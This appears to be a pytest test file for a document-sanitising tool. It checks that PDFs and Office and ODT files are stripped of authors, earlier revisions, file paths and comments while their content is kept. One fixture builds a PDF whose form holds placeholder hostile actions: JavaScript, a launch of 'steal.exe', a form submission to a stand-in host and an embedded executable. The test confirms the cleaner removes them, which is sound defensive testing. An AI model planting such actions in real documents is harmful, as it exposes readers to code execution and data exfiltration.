"""Hidden corners of papers: earlier versions, forms, signatures, what mat2 leaves."""

import io
import zipfile

import pikepdf
import pytest
from PIL import Image

from admin.cleaning import can_clean, clean
from admin.cleaning.inside.jpeg import strip
from tests.admin.cleaning.conftest import needs
from tests.admin.cleaning.traces import layers, traces
from tests.evidence_files import (
    AUTHOR,
    COMMENT,
    COMPANY,
    MOMENT,
    SERIAL,
    docx,
    pdf_with_author,
    pdf_with_photo,
    photo_with_gps,
)
from tests.evidence_files.pictures import encoded, upright

pytestmark = pytest.mark.skipif(not can_clean(), reason="no bubblewrap on this machine")


def test_an_earlier_version_of_a_paper_is_not_in_the_clean_one():
    """A PDF that was changed keeps, in front of the change, all that it was."""
    first = pdf_with_author()
    with pikepdf.open(io.BytesIO(first)) as pdf:
        number, size = pdf.Root.objgen[0], int(pdf.trailer.Size)
        pages = pdf.Root.Pages.objgen[0]
    start = first.rpartition(b"startxref")[2].split()[0]
    secret = f"<</Type/Catalog/Pages {pages} 0 R/Lang({SERIAL})>>"
    again = f"<</Type/Catalog/Pages {pages} 0 R>>"
    changed = first
    root = f"/Size {size}/Root {number} 0 R"
    for catalogue in (secret, again):
        at = len(changed) + 1
        body = f"\n{number} 0 obj\n{catalogue}\nendobj\n"
        table = len(changed) + len(body)
        changed += (
            f"{body}xref\n{number} 1\n{at:010} 00000 n \n"
            f"trailer<<{root}/Prev {int(start)}>>\nstartxref\n{table}\n%%EOF\n"
        ).encode()
        start = str(table).encode()
    assert SERIAL.encode() in changed

    assert traces(clean(changed, name="x").data) == set()


def a_form_with_script():
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    field = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"),
        Subtype=pikepdf.Name("/Widget"),
        FT=pikepdf.Name("/Tx"),
        T="amount",
        V="3000",
        Rect=[0, 0, 9, 9],
        AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="steal()")),
        A=pikepdf.Dictionary(
            S=pikepdf.Name("/GoTo"),
            D=[0],
            Next=pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F="steal.exe"),
        ),
    )
    link = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"),
        Subtype=pikepdf.Name("/Link"),
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name("/SubmitForm"), F="http://steal.example/"),
    )
    seal = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"),
        Subtype=pikepdf.Name("/Widget"),
        FT=pikepdf.Name("/Sig"),
        T="seal",
        Rect=[0, 0, 9, 9],
        V=pikepdf.Dictionary(Name=AUTHOR, ByteRange=[0, 1, 2, 3], M="D:20190304050607"),
    )
    file = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"),
        Subtype=pikepdf.Name("/FileAttachment"),
        Rect=[0, 0, 9, 9],
        FS=pikepdf.Dictionary(F="steal.exe", EF=pikepdf.Dictionary(F=pdf.make_stream(b"steal"))),
    )
    page.obj.Annots = pikepdf.Array([pdf.make_indirect(one) for one in (field, link, seal, file)])
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=[*page.obj.Annots][::2], XFA=pdf.make_stream(b"steal()")
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_a_papers_form_keeps_what_was_filled_in_and_runs_nothing():
    found = b"\n".join(layers(clean(a_form_with_script(), name="x").data))

    assert b"3000" in found
    assert b"amount" in found
    for gone in (b"steal", b"JavaScript", b"Launch", b"SubmitForm", AUTHOR.encode()):
        assert gone not in found


def docx_part(name, content):
    """The Word file of the tests with one part put in the place of another."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.namelist():
            new.writestr(part, content if part == name else old.read(part))
    return out.getvalue()


@needs("mat2")
def test_what_mat2_leaves_in_a_word_file_goes_too():
    words = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    drawing = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    body = (
        f'<w:document xmlns:w="{words}" xmlns:wp="{drawing}"><w:body><w:p><w:r><w:rPr><w:b/>'
        f'<w:rPrChange w:id="3" w:author="{AUTHOR}" w:date="2019-03-04T05:06:07Z"/></w:rPr>'
        f'<w:t>kept</w:t></w:r><wp:docPr id="1" name="{AUTHOR}.jpg" descr="C:\\{COMMENT}"/>'
        "</w:p></w:body></w:document>"
    )
    cleaned = clean(docx_part("word/document.xml", body), name="x").data

    assert traces(cleaned) == set()
    with zipfile.ZipFile(io.BytesIO(cleaned)) as archive:
        words_left = archive.read("word/document.xml")
    assert b"kept" in words_left
    assert b"rPrChange" in words_left


@needs("mat2")
def test_a_word_file_points_to_no_part_that_is_gone_and_to_no_folder_of_its_author():
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = (
        f'<Relationships xmlns="{relations}">'
        f'<Relationship Id="rId1" Type="{kind}/customXml" Target="../customXml/item1.xml"/>'
        f'<Relationship Id="rId2" Type="{kind}/image" Target="media/image1.jpeg"/>'
        f'<Relationship Id="rId3" Type="{kind}/image" Target="file:///C:/{COMPANY}/a.jpg" '
        'TargetMode="External"/></Relationships>'
    )
    changed = docx_part("word/_rels/document.xml.rels", rels)

    with zipfile.ZipFile(io.BytesIO(clean(changed, name="x").data)) as archive:
        left = archive.read("word/_rels/document.xml.rels")
        types = archive.read("[Content_Types].xml")

    assert b"media/image1.jpeg" in left
    assert b"about:blank" in left
    assert b"customXml" not in left
    assert b"thumbnail" not in left + types
    assert b"comments" not in types


def office_file(parts):
    """An Office file of these parts, its list of types made to fit."""
    kinds = "".join(
        f'<Override PartName="/{name}" ContentType="application/{kind}+xml"/>'
        for name, (kind, _content) in parts.items()
    )
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    rels = "application/vnd.openxmlformats-package.relationships+xml"
    defaults = f'<Default Extension="rels" ContentType="{rels}"/>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", f'<Types xmlns="{space}">{defaults}{kinds}</Types>')
        relations = "http://schemas.openxmlformats.org/package/2006/relationships"
        archive.writestr("_rels/.rels", f'<Relationships xmlns="{relations}"/>')
        for name, (_kind, content) in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


OFFICE = "vnd.openxmlformats-officedocument"
PROPERTIES = (
    '<cp:coreProperties xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cp="http://schemas.'
    f'openxmlformats.org/package/2006/metadata/core-properties"><dc:creator>{AUTHOR}</dc:creator>'
    "</cp:coreProperties>"
)
CORE = ("vnd.openxmlformats-package.core-properties", PROPERTIES)


def workbook():
    """A sheet: who made it, on whose computer it lay, who may change it, a note by somebody."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    more = "http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"
    return office_file(
        {
            "docProps/core.xml": CORE,
            "xl/workbook.xml": (
                f"{OFFICE}.spreadsheetml.sheet.main",
                f'<workbook xmlns="{space}"><fileSharing userName="{AUTHOR}"/><x15ac:absPath '
                f'xmlns:x15ac="{more}" url="C:\\Users\\{COMPANY}\\"/><sheets/></workbook>',
            ),
            "xl/worksheets/sheet1.xml": (
                f"{OFFICE}.spreadsheetml.worksheet",
                f'<worksheet xmlns="{space}"><sheetData><row><c><v>73125</v></c></row></sheetData>'
                "</worksheet>",
            ),
            "xl/comments1.xml": (
                f"{OFFICE}.spreadsheetml.comments",
                f'<comments xmlns="{space}"><author>{AUTHOR}</author></comments>',
            ),
        }
    )


def slides():
    """A slide: who made it, and a picture called after the file it came from."""
    space = "http://schemas.openxmlformats.org/presentationml/2006/main"
    return office_file(
        {
            "docProps/core.xml": CORE,
            "ppt/presentation.xml": (
                f"{OFFICE}.presentationml.presentation.main",
                f'<p:presentation xmlns:p="{space}"/>',
            ),
            "ppt/slides/slide1.xml": (
                f"{OFFICE}.presentationml.slide",
                f'<p:sld xmlns:p="{space}"><p:cNvPr id="1" descr="D:\\{COMPANY}\\a.jpg" '
                f'name="{AUTHOR}"/><p:text>73125</p:text></p:sld>',
            ),
        }
    )


@needs("mat2")
@pytest.mark.parametrize(("make", "name"), [(workbook, "文件.xlsx"), (slides, "文件.pptx")])
def test_sheets_and_slides_keep_their_contents_alone(make, name):
    assert traces(make())

    cleaned = clean(make(), name="x")

    assert cleaned.name == name
    assert traces(cleaned.data) == set()
    assert any(b"73125" in layer for layer in layers(cleaned.data))


@needs("mat2")
def test_names_in_an_open_document_go_also_where_a_note_is():
    import tests.evidence_files.papers as papers

    note = (
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><office:body><office:text><office:annotation>'
        f"<dc:creator>{AUTHOR}</dc:creator><dc:date>{MOMENT}</dc:date></office:annotation>"
    )
    content = papers.ODT_CONTENT.replace(
        'office:version="1.2">\n<office:body><office:text>', f'office:version="1.2" {note}'
    )
    assert AUTHOR in content
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(papers.odt())) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.namelist():
            new.writestr(part, content if part == "content.xml" else old.read(part))

    assert traces(clean(out.getvalue(), name="x").data) == set()


@pytest.mark.parametrize("progressive", [False, True])
def test_a_photo_in_a_paper_loses_no_point(progressive):
    photo = encoded(upright(), "JPEG", progressive=progressive, comment=AUTHOR.encode())

    bare = strip(photo + AUTHOR.encode())

    assert AUTHOR.encode() not in bare
    points = [Image.open(io.BytesIO(data)).convert("RGB").tobytes() for data in (photo, bare)]
    assert points[0] == points[1]


@pytest.mark.parametrize("cut", [1, 2, 20, 400, 3000, -1, -2])
def test_a_photo_in_a_paper_that_is_not_whole_is_told_so(cut):
    with pytest.raises(ValueError, match="not a whole one"):
        strip(photo_with_gps()[:cut])


def test_the_photo_in_a_clean_paper_can_be_seen():
    with pikepdf.open(io.BytesIO(clean(pdf_with_photo(), name="x").data)) as pdf:
        photo = pdf.pages[0].Resources.XObject.P.read_raw_bytes()

    assert Image.open(io.BytesIO(photo)).convert("RGB").size == (640, 480)
